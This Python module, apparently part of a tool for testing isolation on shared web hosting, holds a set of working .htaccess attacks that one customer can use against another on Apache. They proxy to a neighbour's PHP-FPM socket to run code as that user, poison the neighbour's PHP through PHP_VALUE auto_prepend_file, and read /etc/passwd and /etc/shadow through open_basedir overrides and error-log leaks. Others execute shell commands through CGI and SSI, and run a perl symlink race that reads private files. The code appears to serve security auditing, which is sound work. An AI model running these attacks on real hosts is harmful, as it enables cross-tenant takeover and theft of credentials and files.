"""Attacks by .htaccess files, which tell the web server what to do with annie's directories."""

import base64
import secrets
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

from lightningspace.attack.field import Field, NotTried

RACERS = 4
# Over one connection: Apache's default for MaxKeepAliveRequests.
REQUESTS_AT_ONCE = 100
RACE_SECONDS = 30
WHO = "<?php echo exec('id -un');"
FLIP = (
    "perl -e '$end = time + {seconds}; chdir qq({directory}) or die;"
    " until (-e qq(stop) or time > $end) {{"
    " symlink qq({theirs}), qq(t); rename qq(t), qq(n.txt);"
    " link qq(own.txt), qq(o); rename qq(o), qq(n.txt); }} print qq(done)'"
)


def takeover(field: Field) -> str | None:
    return _first(_takeovers(field, "t"))


def takeover_without_php(field: Field) -> str | None:
    sockets = field.sockets()
    field.change("site", field.annie.name, php=False)
    for number, socket in enumerate(sockets):
        at = f"unix:{socket}|fcgi://localhost{field.bobby.root}/web/who.php"
        lines = f"RewriteEngine on\nRewriteRule ^go$ {at} [P]\n"
        if proof := _as_neighbour(field, f"off{number}", lines, "go"):
            return proof
    return None


def _takeovers(field: Field, prefix: str) -> Iterator[str | None]:
    for number, socket in enumerate(field.sockets()):
        at = f"unix:{socket}|fcgi://localhost"
        script = f"{field.bobby.root}/web/who.php"
        name = f"{prefix}{number}"
        rewrite = f"RewriteEngine on\nRewriteRule ^go$ {at}{script} [P]\n"
        yield _as_neighbour(field, f"{name}-proxy", rewrite, "go")
        for kind in ("SetHandler", "ForceType"):
            lines = f'<Files "who.phar">\n{kind} "proxy:{at}"\n</Files>\n'
            yield _as_neighbour(field, f"{name}-{kind.lower()}", lines, "who.phar")
        lines = f'AddHandler "proxy:{at}" .phar\nAddType "proxy:{at}" .phar\n'
        yield _as_neighbour(field, f"{name}-add", lines, "who.phar")
        lines = f'RewriteEngine on\nRewriteRule ^who.phar$ - [H="proxy:{at}"]\n'
        yield _as_neighbour(field, f"{name}-rule", lines, "who.phar")


def _as_neighbour(field: Field, directory: str, lines: str, path: str) -> str | None:
    """Put a .htaccess into a directory of annie's, and see whose PHP runs the requested file.

    The site's own configuration does not handle .phar files.
    """
    field.put(field.annie, {"who.phar": WHO, ".htaccess": lines}, directory)
    answer = field.get(field.annie, f"/{directory}/{path}")
    user = f"web{field.bobby.number}"
    if answer.status_code == 200 and answer.text.strip() == user:
        return f"GET /{directory}/{path} ran as the neighbour ({user})"
    return None


def poison(field: Field) -> str | None:
    mark = f"mark{secrets.token_hex(6)}"
    code = base64.b64encode(f"<?php echo '{mark}';".encode()).decode()
    for number, socket in enumerate(field.sockets()):
        lines = (
            f"SetEnv PHP_VALUE 'auto_prepend_file=\"data:text/plain;base64,{code}\"'\n"
            "SetEnv PHP_ADMIN_VALUE 'allow_url_include=1'\n"
            "RewriteEngine on\n"
            f"RewriteRule ^go$ unix:{socket}|fcgi://localhost{field.bobby.root}/web/none.php [P]\n"
        )
        field.put(field.annie, {".htaccess": lines}, f"p{number}")
        for _ in range(5):
            field.get(field.annie, f"/p{number}/go")
            if mark in field.get(field.bobby, "/who.php").text:
                return "the neighbour's next visitor got the code"
    return None


def own_limits(field: Field) -> str | None:
    lines = "SetEnv PHP_ADMIN_VALUE 'open_basedir=/'\n"
    files = {".htaccess": lines, "read.php": "<?php echo @file_get_contents('/etc/passwd');"}
    field.put(field.annie, files, "limits")
    if "root:" in field.get(field.annie, "/limits/read.php").text:
        return "PHP read /etc/passwd"
    return None


def configuration(field: Field) -> str | None:
    """Apache may quote lines that are no directives in annie's own error log."""
    for path in (*map(field.path, field.secrets), "/etc/shadow"):
        _linked(field, path)
        said = _own_log(field)
        if proof := field.found(said, "the error log quotes it"):
            return proof
        if "'root:" in said:
            return "the error log quotes the line of root in /etc/shadow"
    return None


def first_words(field: Field) -> str | None:
    _linked(field, f"{field.bobby.root}/web/page.xml")
    return "the error log quotes it" if field.first_word in _own_log(field) else None


def _own_log(field: Field) -> str:
    return field.run(f"tail -n 5 {field.annie.root}/log/error.log")


def handlers(field: Field) -> str | None:
    return _first(_handlers(field))


def _handlers(field: Field) -> Iterator[str | None]:
    field.get(field.bobby, "/who.php")  # so that the server's status shows it
    who = "#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\n'; echo ran as $(id -un)\n"
    tries = {
        "x": ("SetHandler server-status\n", "nothing"),
        "y": ("SetHandler server-info\n", "nothing"),
        "x.cgi": ("Options +ExecCGI\nAddHandler cgi-script .cgi\n", who),
        "x.shtml": (
            "Options +Includes\nAddOutputFilter INCLUDES .shtml\n",
            '<!--#exec cmd="echo ran as $(id -un)" -->',
        ),
    }
    for number, (path, (lines, program)) in enumerate(tries.items()):
        files = {path: program, ".htaccess": lines}
        field.put(field.annie, files, f"run{number}", mode=0o755)
        text = field.get(field.annie, f"/run{number}/{path}").text
        if field.bobby.name in text:
            yield f"{lines.split()[1]} shows requests to the neighbour"
        if "ran as www-data" in text or "ran as root" in text:
            yield f"{path} {text[text.index('ran as') :].split(chr(10))[0]}"


def password_files(field: Field) -> str | None:
    lines = f'AuthType Basic\nAuthName x\nAuthUserFile "{field.bobby.root}/web/passwords"\n'
    field.put(field.annie, {".htaccess": f"{lines}Require valid-user\n", "x.txt": "in"}, "door")
    refused = field.get(field.annie, "/door/x.txt").status_code == 401
    let_in = field.get(field.annie, "/door/x.txt", auth=("walls", "password"))
    if refused and let_in.status_code == 200:
        return "the web server looked a password up in the neighbour's file"
    return None


def contents(field: Field) -> str | None:
    for mode, secret in field.secrets.items():
        path = field.path(mode)
        told = {
            "error": f'ErrorDocument 404 "%{{file:{path}}}"\n',
            "redirect": f'Redirect "http://x.example/%{{file:{path}}}"\n',
        }
        conditions = _conditions(f"file('{path}') =~ /{{}}/")
        right = {f"{name}-right": lines.format(secret) for name, lines in conditions.items()}
        wrong = {f"{name}-wrong": lines.format(secret[::-1]) for name, lines in conditions.items()}
        answers = _answers(field, told | right | wrong, f"{mode:o}")
        for name in told:
            if proof := field.found("".join(answers[name]), name):
                return proof
        for name in conditions:
            if answers[f"{name}-right"] != answers[f"{name}-wrong"]:
                return f"{name}: the answer depends on the content of the file of mode {mode:04o}"
    return None


def questions(field: Field) -> str | None:
    there, not_there = field.path(0o600), f"{field.bobby.root}/web/not-there"
    conditions = _conditions("-f '{}'")
    conditions["iffile"] = '<IfFile "{}">\nRedirect /iffile/x /yes\n</IfFile>\n'
    for name, condition in conditions.items():
        answers = [_answer(field, name, condition.format(path)) for path in (there, not_there)]
        if answers[0] != answers[1]:
            return f"{name}: the answer depends on whether the file exists"
    linked = [_linked(field, path) for path in (there, not_there)]
    return "a link: the answer depends on whether the file exists" if len(set(linked)) > 1 else None


def _linked(field: Field, path: str) -> int:
    """The HTTP status of a file in a directory whose .htaccess is a symlink to `path`."""
    field.put(field.annie, {"x.txt": "in"}, "linked")
    field.run(f"ln -sfn {path} {field.annie.root}/web/linked/.htaccess")
    return field.get(field.annie, "/linked/x.txt").status_code


def _conditions(expression: str) -> dict[str, str]:
    """Sections of a .htaccess that depend on an expression."""
    return {
        "if": f'<If "{expression}">\nRequire all denied\n</If>\n',
        "require": f'Require expr "{expression}"\n',
    }


def _answer(field: Field, name: str, lines: str) -> tuple[str, str, str]:
    return _answers(field, {name: lines})[name]


def _answers(field: Field, of: dict[str, str], suffix: str = "") -> dict[str, tuple[str, str, str]]:
    """The answers of directories with these lines, for a missing file and an existing one."""
    files = {name + suffix: {"y": "nothing", ".htaccess": lines} for name, lines in of.items()}
    field.put_all(field.annie, files)
    return {name: _seen(field, name + suffix) for name in of}


def _seen(field: Field, directory: str) -> tuple[str, str, str]:
    seen = [field.get(field.annie, f"/{directory}/{name}") for name in ("x", "y")]
    to = "".join(answer.headers.get("Location", "") for answer in seen)
    text = "".join(each.text for each in seen).replace(directory, "")
    return str([answer.status_code for answer in seen]), to, text


def links(field: Field) -> str | None:
    lines = "Options +FollowSymLinks -SymLinksIfOwnerMatch\n"
    field.put(field.annie, {".htaccess": lines}, "links")
    for mode in field.secrets:
        field.run(f"ln -sfn {field.path(mode)} {field.annie.root}/web/links/{mode:o}.txt")
        answer = field.get(field.annie, f"/links/{mode:o}.txt")
        if proof := field.found(answer.text, "a link"):
            return proof
    return None


def race(field: Field) -> str | None:
    field.put(field.annie, {"own.txt": "her own"}, "race")
    for mode in (0o600, 0o644, 0o640):
        got, asked = _race(field, mode)
        if got:
            # 0600 comes first: customers are told to rely on it, so it would be the worst.
            return f"{got} of {asked} answers held the neighbour's file of mode {mode:04o}"
    return None


def _race(field: Field, mode: int) -> tuple[int, int]:
    """How many answers held the file, and how many answers there were."""
    command = FLIP.format(
        seconds=RACE_SECONDS,
        directory=f"{field.annie.root}/web/race",
        theirs=field.path(mode),
    )
    flipped: list[str] = []
    flipping = threading.Thread(target=lambda: flipped.append(field.run(command)))
    flipping.start()
    while flipping.is_alive() and field.get(field.annie, "/race/n.txt").status_code == 404:
        pass  # it has yet to begin
    secret, got, asked = field.secrets[mode].encode(), 0, 0
    with ThreadPoolExecutor(RACERS) as racers:
        while flipping.is_alive() and asked < field.race_requests and not got:
            for answers in racers.map(lambda _: _many_answers(field), range(RACERS)):
                got += answers.count(secret)
                asked += answers.count(b"HTTP/1.1 ") or 1
    field.run(f"touch {field.annie.root}/web/race/stop")
    flipping.join()
    field.run(f"rm -f {field.annie.root}/web/race/stop {field.annie.root}/web/race/n.txt")
    if "done" not in "".join(flipped):
        raise NotTried("the server has no perl for a customer's PHP")
    return got, asked


def _many_answers(field: Field) -> bytes:
    """Everything that one connection answers to many requests sent at once."""
    request = f"GET /race/n.txt HTTP/1.1\r\nHost: {field.annie.name}\r\n"
    last = f"{request}Connection: close\r\n\r\n"
    answers = b""
    try:
        with field.connect() as connection:
            connection.sendall((f"{request}\r\n" * (REQUESTS_AT_ONCE - 1) + last).encode())
            while part := connection.recv(2**16):
                answers += part
    except OSError:  # mpm_itk cuts the connection when it meets another customer's file
        pass
    return answers


def _first(proofs: Iterator[str | None]) -> str | None:
    return next((proof for proof in proofs if proof), None)
